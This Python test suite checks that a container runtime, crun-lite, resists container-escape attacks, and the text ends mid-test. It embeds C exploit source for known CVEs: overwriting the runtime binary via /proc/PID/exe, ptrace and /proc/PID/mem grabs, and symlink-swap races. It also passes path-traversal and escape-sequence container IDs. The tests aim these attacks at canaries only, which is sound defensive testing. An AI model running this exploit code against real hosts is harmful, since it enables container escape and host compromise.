"""Attacks on the runtime from hostile images, containers and callers (hardening issue; the
CVEs of docs/security.md). Each test stages the attack against canaries only: a COPY of the
runtime binary in a temporary directory (used as the runtime for that test), files and
directories under /tmp that the test made, and a harmless global sysctl whose value is saved
and restored. Each asserts that the attack was really attempted (so it cannot pass vacuously)
and that it failed; docs/security.md says how each was checked against a build without its
defence.

The attacking container processes run a small static C program (`attacker`, compiled once per
session with gcc -static): see ATTACKER_SOURCE for its modes."""

import errno
import hashlib
import json
import os
import re
import shutil
import subprocess
import tempfile
import time

import pytest

from helpers import (CRUN_LITE, FdReceiver, SYSTEMD_CGROUP, cgroup_dirs_named, container_cgroup_dirs,
                     host_mountinfo, live_children, mounts_mentioning, pids_in_container_cgroup, read_until,
                     reap_orphans, run_cmd, static_c_program, wait_until)

LOOP = "while :; do sleep 0.1; done"

ATTACKER_SOURCE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <stdint.h>

/* A container process attacking the runtime (CVE-2019-5736, CVE-2016-9962).
     attacker overwrite NAME SECONDS  : finds processes whose /proc/PID/exe is named NAME, keeps
                                        an O_PATH fd of that exe, and tries to reopen it for
                                        writing until SECONDS pass (or it worked)
     attacker grab NAME SECONDS       : tries to open /proc/PID/exe and /proc/PID/mem and to
                                        ptrace every process that appears, and says which
                                        ones it reached while their exe was NAME
     attacker swap A B SECONDS STOP   : renameat2(RENAME_EXCHANGE) of A and B in a loop (CVE-2021-30465)
     attacker replace P T SECONDS STOP: keeps replacing P with a symlink to T (CVE-2025-31133)
   Every loop also ends when the file STOP(FILE) exists.
   Output (stdout, one line each): "ready", then events, then a summary line. */

static const char *stop_file;
static int stopped(void) { return stop_file && access(stop_file, F_OK) == 0; }

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int exe_name(int pid, char *out, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, out, size - 1);
    if (n < 0) return -errno;
    out[n] = 0;
    return 0;
}

static const char *base(const char *p) {
    const char *s = strrchr(p, '/');
    return s ? s + 1 : p;
}

static int link_matches(const char *target, const char *name) {
    /* a deleted or replaced file reads "... (deleted)"; the sealed copy "/memfd:NAME (deleted)" */
    size_t n = strlen(name);
    const char *b = base(target);
    if (strncmp(b, "memfd:", 6) == 0) b += 6;
    return strncmp(b, name, n) == 0 && (b[n] == 0 || b[n] == ' ');
}

/* NAME may end in "@DEV:INO", the runtime file's device and inode: the exe link of a binary run
   from a detached read-only bind mount reads "/", and its process is named after the path the
   container exec'd, so the file itself is what identifies it there. */
static dev_t wanted_dev;
static ino_t wanted_ino;

static const char *parse_name(char *arg) {
    char *at = strrchr(arg, '@');
    if (at) {
        unsigned long long dev, ino;
        if (sscanf(at + 1, "%llu:%llu", &dev, &ino) == 2) {
            wanted_dev = (dev_t)dev;
            wanted_ino = (ino_t)ino;
            *at = 0;
        }
    }
    return arg;
}

static int matches(int pid, const char *target, const char *name) {
    if (link_matches(target, name)) return 1;
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    return wanted_ino && stat(path, &st) == 0 && st.st_dev == wanted_dev && st.st_ino == wanted_ino;
}

#define MAXP 65536
static unsigned char seen[MAXP];

static int overwrite(const char *name, double seconds) {
    int held[256], nheld = 0, found = 0, direct_ok = 0, wrote = 0;
    int last_direct = 0, last_reopen = 0, reopen_tries = 0;
    double end = now() + seconds;
    int self = getpid();
    while (now() < end && !wrote && !stopped()) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self || pid >= MAXP || seen[pid]) continue;
            char target[4096];
            if (exe_name(pid, target, sizeof target) != 0 || !matches(pid, target, name)) continue;
            seen[pid] = 1;
            found++;
            printf("found %d %s\n", pid, target);
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) {
                direct_ok++;
                if (write(fd, "PWNED\n", 6) == 6) wrote++;
                close(fd);
            } else {
                last_direct = errno;
            }
            fd = open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0 && nheld < 256) held[nheld++] = fd;
            else printf("open-path %d: %s\n", pid, strerrorname_np(errno));
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld && !wrote; ++i) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            reopen_tries++;
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd < 0) {
                last_reopen = errno;
                continue;
            }
            if (write(fd, "PWNED\n", 6) == 6) wrote++;
            else last_reopen = errno;
            close(fd);
        }
    }
    printf("summary found=%d held=%d direct_ok=%d wrote=%d reopen_tries=%d last_direct=%s last_reopen=%s\n", found,
           nheld, direct_ok, wrote, reopen_tries, last_direct ? strerrorname_np(last_direct) : "-",
           last_reopen ? strerrorname_np(last_reopen) : "-");
    return 0;
}

static int grab(const char *name, double seconds) {
    int self = getpid(), pids = 0, denied = 0, reached_other = 0, hits = 0;
    double end = now() + seconds;
    while (now() < end && !stopped()) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || pid >= MAXP || seen[pid] == 3) continue;
            if (!seen[pid]) pids++;
            char path[64], target[4096];
            int got_any = 0, was_denied = 0;
            /* 1. /proc/PID/exe */
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0) {
                char link[64];
                snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
                ssize_t n = readlink(link, target, sizeof target - 1);
                target[n > 0 ? n : 0] = 0;
                close(fd);
                if (matches(pid, target, name)) {
                    printf("HIT exe %d %s\n", pid, target);
                    hits++;
                }
                got_any = 1;
            } else if (errno == EACCES || errno == EPERM) {
                was_denied = 1;
            }
            /* 2. /proc/PID/mem */
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            fd = open(path, O_RDWR | O_CLOEXEC);
            if (fd >= 0) {
                if (exe_name(pid, target, sizeof target) == 0 && matches(pid, target, name)) {
                    printf("HIT mem %d %s\n", pid, target);
                    hits++;
                }
                close(fd);
                got_any = 1;
            } else if (errno == EACCES || errno == EPERM) {
                was_denied = 1;
            }
            /* 3. ptrace */
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                if (exe_name(pid, target, sizeof target) == 0 && matches(pid, target, name)) {
                    printf("HIT ptrace %d %s\n", pid, target);
                    hits++;
                }
                /* Never leave it traced: interrupt, wait for the stop (or its exit), detach. */
                int status;
                if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
                    ptrace(PTRACE_DETACH, pid, 0, 0);
                got_any = 1;
            } else if (errno == EPERM || errno == EACCES) {
                was_denied = 1;
            }
            if (was_denied && !seen[pid]) denied++;
            if (got_any) reached_other++;
            seen[pid] = got_any ? 3 : 1; /* a denied process is tried again: it may change */
        }
        if (d) closedir(d);
        fflush(stdout);
    }
    printf("summary pids=%d denied=%d reached=%d hits=%d\n", pids, denied, reached_other, hits);
    return 0;
}

static int swap(const char *a, const char *b, double seconds) {
    long n = 0, failed = 0;
    double end = now() + seconds;
    while (now() < end && !stopped())
        for (int i = 0; i < 1000; ++i, ++n)
            if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) failed++;
    printf("summary swaps=%ld failed=%ld\n", n, failed);
    return 0;
}

static int replace(const char *path, const char *target, double seconds) {
    char tmp[4096];
    long n = 0, failed = 0;
    snprintf(tmp, sizeof tmp, "%s.racer", path);
    double end = now() + seconds;
    while (now() < end && !stopped())
        for (int i = 0; i < 100; ++i, ++n) {
            unlink(tmp);
            if (symlink(target, tmp) != 0 || rename(tmp, path) != 0) failed++;
        }
    unlink(tmp);
    printf("summary replaced=%ld failed=%ld\n", n, failed);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 6 && !strcmp(argv[1], "swap")) {
        stop_file = argv[5];
        printf("ready\n");
        return swap(argv[2], argv[3], atof(argv[4]));
    }
    if (argc == 6 && !strcmp(argv[1], "replace")) {
        stop_file = argv[5];
        printf("ready\n");
        return replace(argv[2], argv[3], atof(argv[4]));
    }
    if (argc == 5) stop_file = argv[4];
    if (argc >= 4 && !strcmp(argv[1], "overwrite")) {
        printf("ready\n");
        return overwrite(parse_name(argv[2]), atof(argv[3]));
    }
    if (argc >= 4 && !strcmp(argv[1], "grab")) {
        printf("ready\n");
        return grab(parse_name(argv[2]), atof(argv[3]));
    }
    fprintf(stderr, "usage: attacker overwrite|grab NAME SECONDS [STOPFILE] | swap A B SECONDS STOPFILE | replace PATH TARGET SECONDS STOPFILE\n");
    return 2;
}
"""


@pytest.fixture(scope="session")
def attacker():
    yield from static_c_program(ATTACKER_SOURCE, "attacker")


@pytest.fixture
def scratch(rt):
    """A temporary directory of this test on the host (canaries, runtime copies); removed after
    the test, never through a mount."""
    path = tempfile.mkdtemp(prefix="attack-", dir="/tmp")
    os.chmod(path, 0o755)
    yield path
    rt.binary = CRUN_LITE  # the teardown must not depend on a runtime copy the test may have lost
    for line in reversed(host_mountinfo()):
        if f" {path}" in line:
            subprocess.run(["umount", "-l", line.split()[4]], timeout=10, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
    shutil.rmtree(path, ignore_errors=True)


def runtime_copy(rt, scratch, name="crun-lite-victim"):
    """Makes a copy of the binary the runtime for this test; returns its path and sha256."""
    d = os.path.join(scratch, "bin")
    os.makedirs(d, exist_ok=True)
    path = os.path.join(d, name)
    shutil.copy2(CRUN_LITE, path)
    rt.binary = path
    return path, sha256(path)


def victim_name(path):
    """The attacker's NAME argument: the copy's file name and its device and inode."""
    st = os.stat(path)
    return f"{os.path.basename(path)}@{st.st_dev}:{st.st_ino}"


def sha256(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def copy_loader_and_libraries(binary, rootfs):
    """What a dynamically linked binary needs to run in the rootfs (an image would have them).
    A static binary (the default build) needs nothing."""
    r = run_cmd(["ldd", binary])
    if "not a dynamic executable" in r.stderr:
        return
    assert r.rc == 0, r
    copied = 0
    for path in re.findall(r"(/\S+) \(0x", r.stdout):
        dest = os.path.join(rootfs, path.lstrip("/"))
        os.makedirs(os.path.dirname(dest), exist_ok=True)
        shutil.copy2(os.path.realpath(path), dest)
        copied += 1
    assert copied >= 2, r.stdout


def out_dir(bundle, owner=None):
    path = os.path.join(bundle.path, "out")
    os.makedirs(path, exist_ok=True)
    if owner is not None:
        os.chown(path, owner, owner)
    return path


def bind(source, destination, ro=False):
    return {"destination": destination, "type": "bind", "source": source, "options": ["rbind", "ro" if ro else "rw"]}


def summary(text):
    lines = [l for l in text.splitlines() if l.startswith("summary ")]
    assert lines, f"the attacker printed no summary: {text!r}"
    return dict(item.split("=", 1) for item in lines[-1].split()[1:])


def stop_and_read(path, log, timeout=20):
    with open(path, "w"):
        pass
    wait_until(lambda: os.path.exists(log) and "summary " in open(log).read(), timeout=timeout,
               what="the attacker's summary")
    with open(log) as f:
        return f.read()


def one_line_error(r, *needles):
    assert r.rc != 0, r
    assert len(r.err_lines) == 1 and r.err_lines[0].startswith("crun-lite: "), r
    for n in needles:
        assert n in r.err_lines[0], (n, r)
    return r.err_lines[0]


def nothing_left(rt, cid, bundle_path=None):
    assert not os.path.exists(os.path.join(rt.root, cid)), f"{rt.root}/{cid} left behind"
    assert cgroup_dirs_named(cid) == [], cgroup_dirs_named(cid)
    assert pids_in_container_cgroup(cid) == []
    if bundle_path is not None:
        assert mounts_mentioning(bundle_path) == []


# ------------------------------------------------------------------------------------------------
# CVE-2019-5736: the container overwrites the runtime binary through /proc/<pid>/exe


@pytest.mark.parametrize("how", ["exec", "run in the attacker's pid namespace"])
def test_container_cannot_overwrite_the_runtime_binary_through_proc_exe(rt, attacker, scratch, how):
    victim, digest = runtime_copy(rt, scratch)
    bundle = rt.make_bundle()
    out = out_dir(bundle)
    shutil.copy2(attacker, os.path.join(bundle.rootfs, "attacker"))
    copy_loader_and_libraries(victim, bundle.rootfs)  # so that the runtime can run in there
    os.symlink("/proc/self/exe", os.path.join(bundle.rootfs, "bin", "evil"))
    log = os.path.join(out, "log")

    def edit(c):
        c["mounts"].append(bind(out, "/out"))
        c["process"]["args"] = ["sh", "-c", f"/attacker overwrite {victim_name(victim)} 60 /out/stop > /out/log 2>&1; " + LOOP]

    bundle.edit(edit)
    cid = rt.new_id()
    assert rt.run(cid, bundle, "-d").rc == 0
    init_pid = rt.state(cid)["pid"]
    wait_until(lambda: os.path.exists(log) and "ready" in open(log).read(), what="the attacker")

    victim_bundle = None
    if how != "exec":
        # A second container joins the attacker's pid namespace; its program is /proc/self/exe.
        victim_bundle = rt.make_bundle(args=["/bin/evil", "--version"])
        copy_loader_and_libraries(victim, victim_bundle.rootfs)
        os.symlink("/proc/self/exe", os.path.join(victim_bundle.rootfs, "bin", "evil"))

        def join_pid(c):
            for n in c["linux"]["namespaces"]:
                if n["type"] == "pid":
                    n["path"] = f"/proc/{init_pid}/ns/pid"

        victim_bundle.edit(join_pid)
    ran = 0
    for _ in range(60):
        # The runtime execs /bin/evil, i.e. /proc/self/exe: the runtime binary itself becomes a
        # process of the container, which the attacker then looks for.
        try:
            if how == "exec":
                r = rt.cli("exec", cid, "/bin/evil", "--version")
            else:
                r = rt.run(rt.new_id(), victim_bundle)
        except OSError as e:
            # ETXTBSY: a write open of the attacker's counts as a writer for an instant, between
            # the kernel's write-access check and the read-only mount's refusal, and an exec in
            # that instant fails. The binary is unchanged (checked below, with the attacker's own
            # count of what it wrote); anything else (ENOEXEC) means it is not what it was.
            if e.errno == errno.ETXTBSY and sha256(victim) == digest:
                continue
            pytest.fail(f"the runtime binary was overwritten by the container: {e}; {open(log).read()}")
        assert r.rc == 0 and r.stdout.startswith("crun-lite version"), r
        ran += 1
        with open(log) as f:
            if f.read().count("found ") >= 3:
                break
    text = stop_and_read(os.path.join(out, "stop"), log)
    s = summary(text)
    print(text)
    assert int(s["found"]) >= 1, f"the attacker never saw the runtime binary running in the container: {text}"
    assert int(s["held"]) >= 1 and int(s["reopen_tries"]) >= 1, text
    assert s["wrote"] == "0" and s["direct_ok"] == "0", f"the runtime binary was opened for writing: {text}"
    assert sha256(victim) == digest, "the runtime binary was modified by the container"
    assert ran >= 1
    assert rt.delete(cid, force=True).rc == 0


# ------------------------------------------------------------------------------------------------
# CVE-2016-9962: a container process reaches `exec`'s process before it has exec'd


def test_container_process_cannot_reach_an_exec_before_its_program_runs(rt, attacker, scratch):
    victim, _ = runtime_copy(rt, scratch)
    caps = ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SYS_PTRACE"]

    def edit(c):
        # A user namespace: the attacker has CAP_SYS_PTRACE over every process of it, so the
        # exec'ing process, once it has joined that namespace, is protected only by being
        # non-dumpable until its execve.
        c["linux"]["namespaces"].append({"type": "user"})
        c["linux"]["uidMappings"] = [{"containerID": 0, "hostID": 100000, "size": 65536}]
        c["linux"]["gidMappings"] = [{"containerID": 0, "hostID": 100000, "size": 65536}]
        for s in ("bounding", "effective", "permitted"):
            c["process"]["capabilities"][s] = caps

    bundle = rt.make_bundle(edit=edit)
    out = out_dir(bundle, owner=100000)
    os.mkdir(os.path.join(bundle.rootfs, "out"))  # the container's root may not create it in a user namespace
    shutil.copy2(attacker, os.path.join(bundle.rootfs, "attacker"))
    log = os.path.join(out, "log")
    bundle.edit(lambda c: (c["mounts"].append(bind(out, "/out")), c["process"].update(
        args=["sh", "-c", f"/attacker grab {victim_name(victim)} 60 /out/stop > /out/log 2>&1; " + LOOP])))
    cid = rt.new_id()
    assert rt.run(cid, bundle, "-d").rc == 0
    wait_until(lambda: os.path.exists(log) and "ready" in open(log).read(), what="the attacker")
    for _ in range(40):
        r = rt.cli("exec", cid, "sleep", "0.05")
        assert r.rc == 0, r
    text = stop_and_read(os.path.join(out, "stop"), log)
    s = summary(text)
    print(text)
    assert "HIT" not in text and s["hits"] == "0", f"a container process reached the runtime: {text}"
    # Not vacuous: it caught exec'ing processes before their execve (and was refused), and it
    # could reach the same processes once they ran the container's program.
    assert int(s["denied"]) >= 1, f"the attacker never caught an exec before its execve: {text}"
    assert int(s["reached"]) >= 1, f"the attacker could not reach even the container's own processes: {text}"
    assert rt.delete(cid, force=True).rc == 0


# ------------------------------------------------------------------------------------------------
# CVE-2021-30465 (and CVE-2024-45310): a racing container swaps a mount destination for a symlink


def test_racing_symlink_exchange_on_a_shared_volume_never_reaches_the_host(rt, attacker, scratch):
    canary = os.path.join(scratch, "canary")
    os.mkdir(canary)
    volume = os.path.join(scratch, "volume")
    os.mkdir(volume)
    os.chmod(volume, 0o777)
    os.mkdir(os.path.join(volume, "dir"))
    os.symlink(canary, os.path.join(volume, "link"))  # absolute: the host's canary, if followed on the host

    racer = rt.make_bundle()
    out = out_dir(racer)
    shutil.copy2(attacker, os.path.join(racer.rootfs, "attacker"))
    racer.edit(lambda c: (c["mounts"].extend([bind(volume, "/vol"), bind(out, "/out")]), c["process"].update(
        args=["sh", "-c", "/attacker swap /vol/dir /vol/link 60 /out/stop > /out/log 2>&1; " + LOOP])))
    racer_id = rt.new_id()
    assert rt.run(racer_id, racer, "-d").rc == 0
    log = os.path.join(out, "log")
    wait_until(lambda: os.path.exists(log) and "ready" in open(log).read(), what="the racer")

    victim = rt.make_bundle(args=["true"])
    base = victim.config
    mounts_before = set(host_mountinfo())
    attempts, refused = 0, 0
    deadline = time.monotonic() + 40
    contained = os.path.join(victim.rootfs, canary.lstrip("/"))

    def both_ways():
        """Some destinations were made in the volume's real directory, others through the
        symlink, inside the victim's own root: the race really went both ways."""
        real = [d for d in ("dir", "link") if os.path.isdir(os.path.join(volume, d)) and
                not os.path.islink(os.path.join(volume, d))]
        in_volume = [n for n in os.listdir(os.path.join(volume, real[0])) if n.startswith("n-")] if len(real) == 1 else []
        in_root = os.listdir(contained) if os.path.isdir(contained) else []
        return bool(in_volume and in_root)

    # At least 120 creations, then on until the race has gone both ways (how often each way
    # wins depends on the machine's speed), within 40 s.
    for i in range(5000):
        cfg = json.loads(json.dumps(base))
        # The destination goes through the volume's "dir", which the racer keeps exchanging
        # with a symlink to the host's canary; "n-i" does not exist, so the runtime creates it.
        cfg["mounts"] += [bind(volume, "/vol"), {"destination": f"/vol/dir/n-{i}", "type": "tmpfs", "source": "tmpfs"}]
        victim.write_config(cfg)
        cid = rt.new_id("v")
        r = rt.run(cid, victim)
        if r.rc != 0:
            one_line_error(r)
            refused += 1
        nothing_left(rt, cid)
        assert os.listdir(canary) == [], f"attempt {i}: the runtime created {os.listdir(canary)} on the host"
        assert [l for l in host_mountinfo() if canary in l] == [], f"attempt {i}: a mount on the host's canary"
        attempts = i + 1
        if time.monotonic() > deadline or (attempts >= 120 and both_ways()):
            break
    text = stop_and_read(os.path.join(out, "stop"), log)
    assert int(summary(text)["swaps"]) > 1000, text
    assert os.listdir(canary) == []
    assert set(host_mountinfo()) - mounts_before == set() or not [
        l for l in set(host_mountinfo()) - mounts_before if scratch in l or victim.path in l]
    # Not vacuous: the race went both ways. Some destinations were made in the real directory;
    # others went through the symlink, which resolved inside the victim's own root.
    real = [d for d in ("dir", "link") if os.path.isdir(os.path.join(volume, d)) and
            not os.path.islink(os.path.join(volume, d))]
    assert len(real) == 1, os.listdir(volume)
    in_volume = [n for n in os.listdir(os.path.join(volume, real[0])) if n.startswith("n-")]
    in_root = [n for n in os.listdir(contained)] if os.path.isdir(contained) else []
    assert in_volume and in_root, (attempts, refused, in_volume, in_root)
    assert len(in_volume) + len(in_root) + refused >= attempts
    assert rt.delete(racer_id, force=True).rc == 0


# ------------------------------------------------------------------------------------------------
# CVE-2025-52881 style: the runtime's writes under /proc redirected by the container's mounts


@pytest.mark.parametrize("cover", ["bind over each file", "tmpfs over /proc/sys"])
def test_sysctl_and_oom_score_adj_writes_cannot_be_redirected_by_mounts_over_proc(rt, scratch, cover):
    key = "net.ipv4.ip_unprivileged_port_start"
    proc_file = "/proc/sys/" + key.replace(".", "/")
    with open(proc_file) as f:
        host_value = f.read()
    canaries = {}
    for name in ("sysctl", "oom"):
        canaries[name] = os.path.join(scratch, name)
        with open(canaries[name], "w") as f:
            f.write("canary\n")

    def edit(c):
        c["linux"]["sysctl"] = {key: "555"}
        c["process"]["oomScoreAdj"] = 123
        c["linux"]["readonlyPaths"] = []  # /proc/sys stays writable: only where the runtime writes protects the canaries
        if cover == "bind over each file":
            # /proc/self is /proc/1 for the container's init.
            c["mounts"] += [bind(canaries["sysctl"], proc_file), bind(canaries["oom"], "/proc/self/oom_score_adj")]
        else:
            c["mounts"].append({"destination": "/proc/sys", "type": "tmpfs", "source": "tmpfs"})
        c["process"]["args"] = ["sh", "-c", LOOP]

    bundle = rt.make_bundle(edit=edit)
    cid = rt.new_id()
    r = rt.run(cid, bundle, "-d")
    assert r.rc == 0, r
    pid = rt.state(cid)["pid"]
    # The values reached the container's own network namespace and process...
    r = run_cmd(["nsenter", "-t", str(pid), "-n", "cat", proc_file])
    assert r.rc == 0 and r.stdout.strip() == "555", r
    with open(f"/proc/{pid}/oom_score_adj") as f:
        assert f.read().strip() == "123"
    # ...not the files the container put over them, nor the host.
    for name, path in canaries.items():
        with open(path) as f:
            assert f.read() == "canary\n", f"the runtime's {name} write went into the container's file"
    with open(proc_file) as f:
        assert f.read() == host_value
    if cover == "bind over each file":  # the mounts were really there, over the right files
        r = rt.cli("exec", cid, "sh", "-c", f"cat {proc_file} /proc/1/oom_score_adj")
        assert r.stdout == "canary\ncanary\n", r
    assert rt.delete(cid, force=True).rc == 0


# ------------------------------------------------------------------------------------------------
# /dev: console, the null device used for masks, /dev itself


def test_dev_console_symlink_to_the_host_with_a_terminal(rt, scratch):
    target = os.path.join(scratch, "console-target")  # does not exist: a runtime following the link would create it
    bundle = rt.make_bundle(args=["sh", "-c", "stat -c '%F %t' /dev/console; echo END"], edit=lambda c: (
        c["process"].update(terminal=True), c["mounts"].pop(1) and None))  # no /dev tmpfs: the image's /dev
    assert bundle.config["mounts"][1]["destination"] != "/dev"
    os.symlink(target, os.path.join(bundle.rootfs, "dev", "console"))
    receiver = FdReceiver(os.path.join(bundle.path, "console.sock"))
    rt.cleanups.append(receiver.close)
    cid = rt.new_id()
    r = rt.run(cid, bundle, "-d", "--console-socket", receiver.path)
    assert os.listdir(scratch) == [], f"the runtime created {os.listdir(scratch)} on the host"
    assert [l for l in host_mountinfo() if scratch in l] == []
    # Refused, as runc refuses a /dev/console it cannot safely mount over.
    one_line_error(r, "/dev/console")
    nothing_left(rt, cid, bundle.path)
    assert os.readlink(os.path.join(bundle.rootfs, "dev", "console")) == target


def test_dev_console_regular_file_with_a_terminal(rt):
    bundle = rt.make_bundle(args=["sh", "-c", "stat -c '%F %t' /dev/console; echo END"], edit=lambda c: (
        c["process"].update(terminal=True), c["mounts"].pop(1) and None))
    with open(os.path.join(bundle.rootfs, "dev", "console"), "w") as f:
        f.write("image file\n")
    receiver = FdReceiver(os.path.join(bundle.path, "console.sock"))
    rt.cleanups.append(receiver.close)
    cid = rt.new_id()
    r = rt.run(cid, bundle, "-d", "--console-socket", receiver.path)
    assert r.rc == 0, r
    [(_, fds)] = receiver.wait(1)
    out = read_until(fds[0], b"END").decode().replace("\r", "")
    assert "character special file 88" in out, out  # the pty (136 == 0x88), bound over the file
    rt.wait_status(cid, "stopped")
    assert rt.delete(cid).rc == 0
    with open(os.path.join(bundle.rootfs, "dev", "console")) as f:
        assert f.read() == "image file\n"


@pytest.fixture
def global_sysctl():
    """A harmless global sysctl (kernel.printk_ratelimit_burst), restored after the test."""
    path = "/proc/sys/kernel/printk_ratelimit_burst"
    with open(path) as f:
        saved = f.read()
    yield path, saved.strip()
    with open(path) as f:
        now_value = f.read()
    if now_value != saved:
        with open(path, "w") as f:
            f.write(saved)


def test_masks_never_use_a_raced_dev_null_of_the_container(rt, attacker, scratch, global_sysctl):
    # CVE-2025-31133: /dev is a shared volume; a racer keeps replacing its "null" with a symlink
    # to a global sysctl file, hoping the runtime binds that file over the masked paths, which
    # the container then writes to.
    sysctl_path, value = global_sysctl
    volume = os.path.join(scratch, "dev")
    os.mkdir(volume)
    stop = os.path.join(scratch, "stop")
    racer = subprocess.Popen([attacker, "replace", os.path.join(volume, "null"), sysctl_path, "60", stop],
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    masked = ["/proc/kcore", "/proc/timer_list", "/proc/keys", "/proc/sched_debug"]
    script = ("test -L /dev/null && echo raced; "
              f"for f in {' '.join(masked)}; do [ -e $f ] && echo 7 > $f 2>/dev/zero; done; cat {' '.join(masked)} 2>&1 | head -c 100")
    try:
        bundle = rt.make_bundle(args=["sh", "-c", script], edit=lambda c: (
            c["mounts"].__setitem__(1, bind(volume, "/dev")), c["linux"].update(maskedPaths=masked)))
        raced = ran = 0
        # At least 40 attempts; more (up to 200) while too few containers got to run, since the
        # runtime refuses every attempt where it meets the racer's symlink.
        for i in range(200):
            if i >= 40 and ran >= 10 and raced >= 1:
                break
            cid = rt.new_id()
            r = rt.run(cid, bundle)
            if r.rc == 0:
                ran += 1
                raced += "raced" in r.stdout
            else:
                one_line_error(r)
            nothing_left(rt, cid)
            with open(sysctl_path) as f:
                assert f.read().strip() == value, f"attempt {i}: the container wrote the host's sysctl: {r!r}"
    finally:
        with open(stop, "w"):
            pass
        text = racer.communicate(timeout=20)[0].decode()
    assert int(summary(text)["replaced"]) > 1000, text
    assert ran >= 10 and raced >= 1, (ran, raced)


def test_dev_that_is_a_regular_file_is_refused(rt):
    for keep_dev_tmpfs in (True, False):
        bundle = rt.make_bundle(args=["true"], edit=None if keep_dev_tmpfs else (lambda c: c["mounts"].pop(1) and None))
        shutil.rmtree(os.path.join(bundle.rootfs, "dev"))
        with open(os.path.join(bundle.rootfs, "dev"), "w") as f:
            f.write("not a directory\n")
        cid = rt.new_id()
        before = set(host_mountinfo())
        r = rt.run(cid, bundle)
        one_line_error(r, "/dev")
        nothing_left(rt, cid, bundle.path)
        assert set(host_mountinfo()) - before == set() or not [l for l in set(host_mountinfo()) - before
                                                                if bundle.path in l]


# ------------------------------------------------------------------------------------------------
# Hostile IDs, sizes and paths from the caller: one line, non-zero, nothing left behind


@pytest.mark.parametrize("bad", ["\x01", "a\x1b[31mred", "\x1b]0;title\x07", "a\tb", "x\x7f", "ü", "a" * 256, "a" * 2000,
                                 "..", "../../etc", "a/../b"])
@pytest.mark.parametrize("command", ["create", "run"])
def test_hostile_container_id_is_refused_without_raw_control_characters(rt, bad, command):
    bundle = rt.make_bundle(args=["true"])
    parent = os.path.dirname(rt.root)
    before_entries = set(os.listdir(parent))
    before = set(host_mountinfo())
    r = rt.cli(command, "--bundle", bundle, bad)
    line = one_line_error(r, "container ID")
    assert not any(ord(ch) < 0x20 or ord(ch) == 0x7f for ch in line), f"raw control character in {line!r}"
    assert set(os.listdir(parent)) - before_entries <= {os.path.basename(rt.root)}
    if os.path.isdir(rt.root):
        assert os.listdir(rt.root) == []
    assert not live_children()
    assert set(host_mountinfo()) == before or not [l for l in set(host_mountinfo()) - before if bundle.path in l]


def test_id_of_255_characters_is_the_longest_accepted(rt):
    # The ID names the state file and the cgroup directories: a name, at most NAME_MAX.
    bundle = rt.make_bundle(args=["true"])
    cid = "a" * 255
    rt.ids.append(cid)
    r = rt.run(cid, bundle)
    assert r.rc == 0, r
    nothing_left(rt, cid)


def test_id_of_255_characters_goes_through_create_start_and_delete(rt):
    # A created container also has a fifo beside its state file, whose name therefore cannot be
    # the ID with a suffix.
    bundle = rt.make_bundle(args=["true"])
    cid = "b" * 255
    rt.create(cid, bundle)
    assert rt.status(cid) == "created"
    assert len(os.listdir(rt.root)) == 2, os.listdir(rt.root)  # the state file and the fifo
    if not SYSTEMD_CGROUP:
        # Its cgroups too are named by the ID: "crun-lite-" + 255 characters would be longer than
        # a name may be, so the cgroupfs driver's default path is /crun-lite/<id> for it.
        dirs = cgroup_dirs_named(cid)
        assert dirs and all(os.path.basename(d) == cid for d in dirs), dirs
    rt.start(cid)
    rt.wait_status(cid, "stopped")
    r = rt.delete(cid)
    assert r.rc == 0, r
    nothing_left(rt, cid)
    assert os.listdir(rt.root) == []


def peak_rss_kib(argv, timeout=60):
    """Runs argv under /usr/bin/time; returns (returncode, stderr without time's line, peak RSS
    in KiB). A direct child of this (large) Python process would start with its RSS high-water
    mark; time's child starts from time's."""
    with tempfile.TemporaryDirectory() as d:
        report = os.path.join(d, "rss")
        r = run_cmd(["/usr/bin/time", "-q", "-f", "%M", "-o", report, *argv], timeout=timeout)
        with open(report) as f:
            lines = [l for l in f.read().splitlines() if l.strip()]
        return r.rc, r.stderr, int(lines[-1])


@pytest.mark.parametrize("shape", ["100 MB config.json", "nested 10000 levels"])
def test_huge_or_deep_config_is_refused_with_bounded_memory(rt, shape):
    bundle = rt.make_bundle(args=["true"])
    if shape.startswith("100 MB"):
        cfg = bundle.config
        cfg["annotations"] = {"big": "x" * (100 << 20)}
        with open(bundle.config_path, "w") as f:
            json.dump(cfg, f)
